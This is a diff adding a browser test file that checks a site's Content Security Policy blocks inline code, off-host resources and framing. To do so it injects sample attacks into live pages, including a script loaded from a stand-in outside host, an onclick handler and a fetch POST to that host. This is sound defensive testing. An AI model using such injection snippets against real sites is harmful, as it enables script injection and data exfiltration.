@@ -1,0 +1,108 @@
+import { describe, expect, test } from 'vitest'
+import { oneOfEachKind } from './built.ts'
+import { readEveryFile } from './read.ts'
+import { useBrowser } from './visit.ts'
+
+const visit = useBrowser()
+
+test('no HTML file holds an inline script, an inline style or code in an attribute', async () => {
+  const { page } = await visit('about:blank')
+  const found = await readEveryFile(page, (document) => {
+    const dataTypes = ['application/json', 'application/ld+json']
+    return [...document.querySelectorAll('*')].flatMap((element) => {
+      const name = element.localName
+      const isCode = name === 'script' && !dataTypes.includes(element.getAttribute('type') ?? '')
+      return [
+        ...(isCode && element.textContent ? ['an inline script'] : []),
+        ...(name === 'style' ? ['a <style>'] : []),
+        ...element.getAttributeNames().flatMap((attribute) => {
+          const value = element.getAttribute(attribute)!
+          return attribute === 'style' ||
+            attribute.startsWith('on') ||
+            /^\s*javascript:/i.test(value)
+            ? [`${name} ${attribute}="${value}"`]
+            : []
+        }),
+      ]
+    })
+  })
+  expect(found.filter(({ read }) => read.length > 0)).toEqual([])
+})
+
+test('no HTML file asks for anything on another host', async () => {
+  const { page } = await visit('about:blank')
+  const found = await readEveryFile(page, (document) =>
+    [...document.querySelectorAll('[src], [srcset], [action], link[href]')].flatMap((element) =>
+      ['src', 'srcset', 'action', 'href']
+        .map((name) => element.getAttribute(name) ?? '')
+        // A canonical address names the page and asks for nothing.
+        .filter((url) => /^(\w+:)?\/\//.test(url) && element.getAttribute('rel') !== 'canonical'),
+    ),
+  )
+  expect(found.filter(({ read }) => read.length > 0)).toEqual([])
+})
+
+describe.each(oneOfEachKind)('on %s', (address) => {
+  test('injected code does not run, and nothing can be sent to another host', async () => {
+    const { page, requests } = await visit(address)
+    const { blocked, ran, colour } = await page.evaluate(async () => {
+      const blocked: string[] = []
+      const before = getComputedStyle(document.body).color
+      const add = (name: string, attributes: Record<string, string>, text = ''): void => {
+        const element = document.createElement(name)
+        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
+        element.textContent = text
+        document.body.append(element)
+      }
+      const expected = 9
+      const allBlocked = new Promise<void>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          if (blocked.push(effectiveDirective) === expected) resolve()
+        })
+      })
+      add('script', {}, 'window.ran = true')
+      add('script', { src: 'https://elsewhere.example/x.js' })
+      add('button', { id: 'injected', onclick: 'window.ran = true' })
+      document.getElementById('injected')!.click()
+      add('style', {}, 'body { color: lime }')
+      document.body.setAttribute('style', 'color: lime')
+      add('img', { src: 'https://elsewhere.example/x.png' })
+      add('iframe', { src: 'https://elsewhere.example/' })
+      add('base', { href: 'https://elsewhere.example/' })
+      await fetch('https://elsewhere.example/', { method: 'POST', body: 'x' }).catch(() => {})
+      await allBlocked
+      return {
+        blocked: blocked.sort(),
+        ran: 'ran' in window,
+        colour: { before, after: getComputedStyle(document.body).color },
+      }
+    })
+    expect(blocked).toEqual([
+      'base-uri',
+      'connect-src',
+      'frame-src',
+      'img-src',
+      'script-src-attr',
+      'script-src-elem',
+      'script-src-elem',
+      'style-src-attr',
+      'style-src-elem',
+    ])
+    expect(ran).toBe(false)
+    expect(colour.after).toBe(colour.before)
+    const elsewhere = requests.filter((request) => request.url().includes('elsewhere.example'))
+    expect(elsewhere.map((request) => request.failure()?.errorText)).toEqual(
+      elsewhere.map(() => 'csp'),
+    )
+  })
+})
+
+test('no other site can put a page in a frame', async () => {
+  const { page } = await visit('about:blank')
+  const { page: ours } = await visit('/about/')
+  await page.setContent(`<iframe src="${ours.url()}"></iframe>`)
+  const frame = page.frames()[1]!
+  await frame.waitForLoadState()
+  expect(await frame.getByRole('heading').count()).toBe(0)
+  expect(frame.url()).toMatch(/^chrome-error:/)
+})
